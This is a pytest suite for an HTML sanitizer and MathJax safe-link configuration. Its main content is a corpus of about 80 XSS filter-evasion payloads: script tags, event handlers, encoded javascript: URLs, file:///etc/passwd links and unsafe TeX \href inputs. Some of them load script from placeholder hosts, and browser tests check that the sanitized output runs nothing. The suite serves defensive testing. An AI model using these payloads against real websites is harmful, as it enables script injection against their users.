"""HTML in summaries and notes, made safe; math that could link to script (no Sphinx)."""

from __future__ import annotations

import contextlib
import json
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from papershelf.sanitize import (
    MATHJAX_SAFE_CONFIG, Sanitized, sanitize_html, unsafe_math, url_scheme, with_safe_mathjax,
)

# In the style of OWASP's XSS filter evasion cheat sheet: each one tries to run
# script, load a frame or restyle the page.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script/xss src=https://xss.example/xss.js></script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)</script",
    "<IMG SRC=\"javascript:alert(1);\">",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" />",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
    "<IMG SRC=\" &#14;  javascript:alert(1);\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">click</a>",
    "<a href=\"java\nscript:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"javascript&colon;alert(1)\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">click</a>",
    "<a href=\"https://ok.example\" onmouseover=alert(1)>hover</a>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%\">x</a>",
    "<BODY ONLOAD=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" AllowScriptAccess="
    "\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD4=\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert(1));\">x</DIV>",
    "<span style=\"behavior: url(xss.htc);\">x</span>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\"><tr><td>x</td></tr></TABLE>",
    "<TD BACKGROUND=\"javascript:alert(1)\">",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onpointerenter=alert(1) class=\"note\">x</p>",
    "<div id=\"x\" onclick=alert(1)>clobber</div>",
    "<img src=\"https://ok.example/a.png\" onload=alert(1)>",
    "<img srcset=\"javascript:alert(1)\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=\"#\" onclick=\"alert(1)\">fragment</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<xmp><script>alert(1)</script></xmp>",
    "<a href=\"file:///etc/passwd\">local file</a>",
    "<img src=\"file:///etc/passwd\">",
]


#: Payloads that a browser reads as harmless: a backtick-quoted "URL" is a
#: relative URL (only old Internet Explorer took backticks as quotes).
NOTHING_LEFT_TO_REMOVE = {"<IMG SRC=`javascript:alert(1)`>"}


class _Found(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def found(fragment: str) -> _Found:
    parser = _Found()
    parser.feed(fragment)
    parser.close()
    return parser


DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "form", "input",
                  "button", "select", "textarea", "style", "link", "meta", "base", "svg", "math",
                  "body", "video", "audio", "source", "marquee", "isindex", "template",
                  "noscript", "xmp", "animate"}


def assert_safe(fragment: str) -> None:
    result = found(fragment)
    assert not set(result.tags) & DANGEROUS_TAGS, fragment
    for tag, name, value in result.attributes:
        assert not name.startswith("on"), fragment
        assert name not in {"style", "id", "srcdoc", "formaction", "background", "srcset"}, \
            fragment
        if name in {"href", "src", "cite"}:
            assert url_scheme(value) in (None, "http", "https", "mailto"), fragment
            if name == "src":
                assert url_scheme(value) in (None, "http", "https"), fragment


def test_corpus_is_large_enough():
    assert len(PAYLOADS) >= 60
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_and_named(payload):
    result = sanitize_html(payload)
    assert isinstance(result, Sanitized)
    assert_safe(result.html)
    # the result is stable: cleaning it again changes nothing and removes nothing
    again = sanitize_html(result.html)
    assert again == Sanitized(result.html, ())
    # something dangerous was in each, so something is named
    assert result.removed or payload in NOTHING_LEFT_TO_REMOVE, payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_inside_harmless_markup(payload):
    fragment = f"<div class=\"note\"><p>before <b>{payload}</b> after</p></div>"
    result = sanitize_html(fragment)
    assert_safe(result.html)
    assert result.removed or payload in NOTHING_LEFT_TO_REMOVE


# -- what the user is told --------------------------------------------------------

@pytest.mark.parametrize(("fragment", "words"), [
    ("<script>alert(1)</script>", "<script> element"),
    ("<img src=x onerror=alert(1)>", "onerror attribute on <img>"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript: URL in href"),
    ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "javascript: URL in href"),
    ("<a href=\"  JaVaScRiPt:alert(1)\">x</a>", "javascript: URL in href"),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", "vbscript: URL in href"),
    ("<img src=\"data:image/png;base64,AAAA\">", "data: URL in src"),
    ("<iframe src=\"https://evil.example\"></iframe>", "<iframe> element"),
    ("<style>body { display: none }</style>", "<style> element"),
    ("<span style=\"color: red\">x</span>", "style attribute on <span>"),
    ("<p onclick=\"alert(1)\">x</p>", "onclick attribute on <p>"),
    ("<object data=x></object>", "<object> element"),
    ("<embed src=x>", "<embed> element"),
    ("<form><input></form>", "<form> element"),
    ("<form><input></form>", "<input> element"),
    ("<button>x</button>", "<button> element"),
    ("<link rel=stylesheet href=x.css>", "<link> element"),
    ("<meta charset=utf-8>", "<meta> element"),
    ("<base href=https://evil.example/>", "<base> element"),
    ("<svg onload=alert(1)></svg>", "<svg> element"),
    ("<svg><script>alert(1)</script></svg>", "<script> element"),
    ("<div id=\"paper-x\">x</div>", "id attribute on <div>"),
    ("<img src=\"mailto:a@example.org\">", "mailto: URL in src"),
    ("<a href=\"http://[::1\">x</a>", "unreadable URL in href"),
    ("<!-- a comment -->", "HTML comment"),
    ("<x-widget>x</x-widget>", "<x-widget> element"),
    ("<a href=\"https://x.example\" target=\"_top\">x</a>", "target attribute on <a>"),
])
def test_removed_names_it_in_words(fragment, words):
    assert words in sanitize_html(fragment).removed


def test_removed_is_in_order_and_each_named_once():
    result = sanitize_html("<script>1</script><img src=x onerror=a><script>2</script>"
                           "<img src=y onerror=b>")
    assert result.removed == ("<script> element", "onerror attribute on <img>")


def test_attributes_of_a_removed_element_are_not_listed_apart():
    result = sanitize_html("<iframe src=\"javascript:alert(1)\" onload=x></iframe>")
    assert result.removed == ("<iframe> element",)


def test_contents_of_script_and_style_are_gone_text_of_others_stays():
    result = sanitize_html("<script>var secret</script><style>.x{}</style>"
                           "<form>typed <button>label</button></form>")
    assert "secret" not in result.html and ".x" not in result.html
    assert result.html == "typed label"


# -- harmless markup stays as written ------------------------------------------------

HARMLESS = [
    "line<br>break",
    "H<sub>2</sub>O and x<sup>2</sup>",
    "press <kbd>Ctrl</kbd>+<kbd>C</kbd>",
    "<b>bold</b> <i>italic</i> <em>em</em> <strong>strong</strong> <code>code</code>",
    "<pre>pre\n  formatted</pre>",
    "<span class=\"highlight\">span</span>",
    "<div class=\"note warning\"><p>paragraph</p></div>",
    "<ul><li>one</li><li>two</li></ul>",
    "<ol start=\"3\"><li>three</li></ol>",
    "<dl><dt>term</dt><dd>definition</dd></dl>",
    "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
    "<tbody><tr><td>1</td><td colspan=\"2\">2</td></tr></tbody></table>",
    "<details><summary>more</summary>hidden</details>",
    "<details open=\"\"><summary>more</summary>shown</details>",
    "<abbr title=\"in-context learning\">ICL</abbr>",
    "<mark>marked</mark>",
    "<del>old</del> <ins>new</ins>",
    "<hr>",
    "<blockquote><p>quoted</p></blockquote>",
    "<img src=\"https://example.org/figure.png\" alt=\"figure\" width=\"300\">",
    "<img src=\"http://example.org/figure.png\" alt=\"figure\">",
    "<img src=\"figures/local.png\" alt=\"relative\">",
    "<h4>heading</h4><small>small</small> <s>struck</s> <u>under</u>",
    "<p lang=\"zh\">中文笔记</p>",
    "text with &lt;angle brackets&gt; &amp; ampersands",
]

LINKS = [
    "<a href=\"https://arxiv.org/abs/2310.15213\">arXiv</a>",
    "<a href=\"http://example.org/a?b=c&amp;d=e#f\">query</a>",
    "<a href=\"mailto:someone@example.org\">mail</a>",
    "<a href=\"../other.html#paper-x\">relative</a>",
    "<a href=\"#paper-2310.15213\">fragment</a>",
    "<a href=\"/papers/icl.html\" class=\"reference\">rooted</a>",
    "<a href=\"https://example.org\" target=\"_blank\">new tab</a>",
]


@pytest.mark.parametrize("fragment", HARMLESS)
def test_harmless_markup_survives_unchanged(fragment):
    assert sanitize_html(fragment) == Sanitized(fragment, ())


@pytest.mark.parametrize("fragment", LINKS)
def test_links_survive_with_noopener(fragment):
    result = sanitize_html(fragment)
    assert result.removed == ()
    assert result.html == fragment.replace("\">", "\" rel=\"noopener noreferrer\">", 1)


def test_a_rel_of_its_own_is_replaced():
    result = sanitize_html("<a href=\"https://x.example\" rel=\"opener\">x</a>")
    assert result.html == "<a href=\"https://x.example\" rel=\"noopener noreferrer\">x</a>"


def test_empty_and_plain_text():
    assert sanitize_html("") == Sanitized("", ())
    assert sanitize_html("just text") == Sanitized("just text", ())


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PAYLOADS + HARMLESS + LINKS + ["<", ">", "\"", "'", "=", " ",
                                                                "&#", "javascript:", "on"]),
                max_size=8).map("".join))
def test_property_any_mixture_comes_out_safe(fragment):
    result = sanitize_html(fragment)
    assert_safe(result.html)
    assert sanitize_html(result.html).removed == ()


# -- math ----------------------------------------------------------------------------

@pytest.mark.parametrize("tex", [
    r"E \href{javascript:alert(1)}{=} mc^2",
    r"\href{JavaScript:alert(1)}{x}",
    r"\href { javascript:alert(1) }{x}",
    r"\href{jav&#x61;script:alert(1)}{x}",
    r"\href{java	script:alert(1)}{x}",
    r"\href{data:text/html,<script>alert(1)</script>}{x}",
    r"\href{vbscript:msgbox(1)}{x}",
    r"\href{file:///etc/passwd}{x}",
    r"\url{javascript:alert(1)}",
    r"\def\u{javascript:alert(1)} \href{\u}{x}",
    r"\href\u{x}",
    r"\style{background: url(https://evil.example/track.png)}{x}",
    r"\style{position: fixed; top: 0}{x}",
    r"\class{x\" onmouseover=\"alert(1)}{y}",
    r"\cssId{paper-x\"}{y}",
    r"\data{foo=bar}{y}",
])
def test_unsafe_math_says_why(tex):
    reason = unsafe_math(tex)
    assert reason and reason.startswith("\\")


@pytest.mark.parametrize("tex", [
    r"v_t = \sum_{(\ell, j)} \bar{a}_{\ell j}",
    r"\href{https://arxiv.org/abs/2310.15213}{\text{paper}}",
    r"\href{http://example.org}{x}",
    r"\href{#eq-1}{x}",
    r"\href{../other.html}{x}",
    r"\class{highlight}{x}",
    r"\cssId{eq-main}{x}",
    r"\style{color: red}{x}",
    r"\text{javascript: is just text here}",
    r"\href",
    r"\href{",
    r"\hrefx{javascript:alert(1)}",
    "",
])
def test_safe_math_is_none(tex):
    assert unsafe_math(tex) is None


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="\\{}href:javscript/ ", max_size=40))
def test_property_unsafe_math_never_raises(tex):
    assert unsafe_math(tex) is None or isinstance(unsafe_math(tex), str)


def test_mathjax_config_loads_the_safe_extension():
    assert "ui/safe" in MATHJAX_SAFE_CONFIG["loader"]["load"]
    safe = MATHJAX_SAFE_CONFIG["options"]["safeOptions"]
    assert safe["allow"]["URLs"] == "safe"
    protocols = {name for name, allowed in safe["safeProtocols"].items() if allowed}
    assert protocols == {"http", "https"}
    # Sphinx writes mathjax3_config as JSON into the page
    assert json.loads(json.dumps(MATHJAX_SAFE_CONFIG)) == MATHJAX_SAFE_CONFIG


def test_safe_mathjax_merges_into_a_site_config():
    assert with_safe_mathjax(None) == MATHJAX_SAFE_CONFIG
    site = {"loader": {"load": ["[tex]/physics"]}, "tex": {"packages": {"[+]": ["physics"]}},
            "options": {"safeOptions": {"allow": {"styles": "none"}}}}
    merged = with_safe_mathjax(site)
    assert merged["loader"]["load"] == ["[tex]/physics", "ui/safe"]
    assert merged["tex"] == site["tex"]
    assert merged["options"]["safeOptions"]["allow"] == {
        "URLs": "safe", "classes": "safe", "cssIDs": "safe", "styles": "none"}
    assert merged["options"]["safeOptions"]["safeProtocols"]["javascript"] is False
    # the site's own dict is left as it was, and merging twice changes nothing
    assert site["loader"]["load"] == ["[tex]/physics"]
    assert with_safe_mathjax(merged) == merged


def test_the_safe_extension_is_in_the_local_mathjax():
    """The site may serve MathJax itself (sphinx-mathjax-offline): the loader
    finds ``ui/safe`` next to ``tex-chtml.js`` there."""
    from papershelf.assets import mathjax_source
    source = mathjax_source()
    if source is None:
        pytest.skip("sphinx-mathjax-offline is not installed")
    assert (source / "ui" / "safe.js").is_file()
    assert (source / "tex-chtml.js").is_file()


# -- the safe extension in a real browser ------------------------------------------------

def _chromium() -> str:
    import os
    import shutil
    found = os.environ.get("PAPERSHELF_CHROMIUM") or shutil.which("chromium")
    if not found:
        if os.environ.get("CI"):
            pytest.fail("no Chromium on this CI machine (bash .ci/run installs it)", pytrace=False)
        pytest.skip("Chromium is needed: apt-get install chromium")
    return found


MATH_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<script>window.MathJax = CONFIG;</script>
<script defer src="mathjax/tex-chtml.js"></script>
</head><body>
<p>\\(E \\href{javascript:alert(1)}{=} mc^2\\)</p>
<p>\\(\\href{JaVaScRiPt:alert(2)}{x}\\) \\(\\href{data:text/html,hi}{y}\\)</p>
<p>\\(\\href{https://example.org/ok}{z}\\)</p>
</body></html>
"""


@contextlib.contextmanager
def served_page(folder):
    """A headless Chromium page on ``folder`` served on 127.0.0.1; every
    dialog the page opens is recorded in ``page.dialogs`` and nothing leaves
    127.0.0.1."""
    import functools
    import threading
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    chromium = _chromium()
    sync_api = pytest.importorskip("playwright.sync_api")

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, format, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=folder))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with sync_api.sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=chromium, headless=True,
                args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                      "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage"])
            try:
                page = browser.new_page()
                page.dialogs = []
                page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message),
                                                  dialog.dismiss()))
                page.route("**/*", lambda route: route.continue_()
                           if route.request.url.startswith("http://127.0.0.1:")
                           else route.abort())
                page.base = f"http://127.0.0.1:{server.server_port}/"
                yield page
            finally:
                browser.close()
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("safe", [True, False])
def test_mathjax_safe_extension_in_chromium(tmp_path, safe):
    """MathJax as the site serves it: with the safe configuration no
    ``javascript:`` or ``data:`` link is made, the https one is; without it,
    MathJax does make the unsafe links (so the check can fail)."""
    from papershelf.assets import mathjax_source

    source = mathjax_source()
    assert source is not None, "sphinx-mathjax-offline is pinned in requirements.txt"
    (tmp_path / "mathjax").symlink_to(source, target_is_directory=True)
    config = MATHJAX_SAFE_CONFIG if safe else {}
    (tmp_path / "index.html").write_text(MATH_PAGE.replace("CONFIG", json.dumps(config)),
                                         encoding="utf-8")
    with served_page(tmp_path) as page:
        page.goto(page.base + "index.html")
        page.wait_for_function("window.MathJax && MathJax.startup && MathJax.startup.promise",
                               timeout=60_000)
        page.evaluate("MathJax.startup.promise")
        assert page.locator("mjx-container").count() == 4
        hrefs = page.eval_on_selector_all("mjx-container a[href]",
                                          "links => links.map(a => a.getAttribute('href'))")
        for link in page.locator("mjx-container a[href^='javascript' i]").all():
            with page.expect_event("dialog", timeout=30_000):
                link.click(no_wait_after=True)
        dialogs = page.dialogs
    assert "https://example.org/ok" in hrefs
    unsafe = [href for href in hrefs if url_scheme(href) not in ("http", "https")]
    if safe:
        assert unsafe == [] and dialogs == []
    else:
        assert len(unsafe) == 3
        assert dialogs == ["1", "2"]


#: Payloads that need no click: what runs on load (the unsanitized page must
#: open a dialog with each, or the check could not fail).
ON_LOAD = ["<img src=x onerror=alert('img')>", "<svg/onload=alert('svg')>",
           "<details open ontoggle=alert('details')>",
           "<iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
           "<script>alert('script')</script>", "<audio src=x onerror=alert('audio')>",
           "<input onfocus=alert('focus') autofocus>"]


@pytest.mark.parametrize("sanitized", [True, False])
def test_sanitized_payloads_run_nothing_in_chromium(tmp_path, sanitized):
    """Every payload of the corpus on one page: sanitized, no dialog opens on
    load and no link or source has a javascript:, vbscript: or data: URL;
    unsanitized, the on-load ones do open dialogs."""
    payloads = ON_LOAD + PAYLOADS  # some payloads leave elements open that swallow the rest
    body = "\n".join(f"<div class=\"case\">{sanitize_html(p).html if sanitized else p}</div>"
                     for p in payloads)
    (tmp_path / "index.html").write_text(
        f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>{body}</body></html>",
        encoding="utf-8")
    with served_page(tmp_path) as page:
        page.goto(page.base + "index.html")
        page.wait_for_load_state("load")
        # focus and toggle events fire in the tasks and frames after load
        page.evaluate("new Promise(done => requestAnimationFrame(() => "
                      "requestAnimationFrame(() => setTimeout(done, 0))))")
        hrefs = page.eval_on_selector_all("a[href], [src]", "nodes => nodes.map("
                                          "n => n.getAttribute('href') || n.getAttribute('src'))")
        dialogs = page.dialogs
    schemes = {url_scheme(href) for href in hrefs}
    if sanitized:
        assert dialogs == []
        assert not schemes & {"javascript", "vbscript", "data"}
    else:
        assert {"img", "svg", "details", "script"} <= set(dialogs)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/=\"' \t\nabcdeijlmnoprstvxy&#;:0123`!-[]", max_size=80))
def test_property_arbitrary_markup_never_raises_and_comes_out_safe(fragment):
    result = sanitize_html(fragment)
    assert_safe(result.html)
    assert all(isinstance(words, str) and words for words in result.removed)
    assert sanitize_html(result.html) == Sanitized(result.html, ())
